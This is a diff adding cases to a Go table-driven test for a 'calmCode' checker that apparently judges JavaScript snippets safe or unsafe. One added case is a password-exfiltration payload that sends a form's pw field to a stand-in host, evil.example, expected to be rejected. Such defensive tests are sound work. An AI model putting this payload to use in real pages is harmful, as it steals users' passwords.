@@ -71,6 +71,10 @@ func TestCalmCode(t *testing.T) {
 		{`go('\x41')`, false},
 		{"go(`1`)", false},
 		{"location.hash='x'", false},
+		{"setopen(!open)", true},
+		{"open('/help')", false},
+		{"new image().src='//evil.example/?'+this.form.pw.value", false},
+		{"router.push('/settings')", true},
 	}
 	for _, tt := range tests {
 		if got := calmCode(tt.code); got != tt.want {
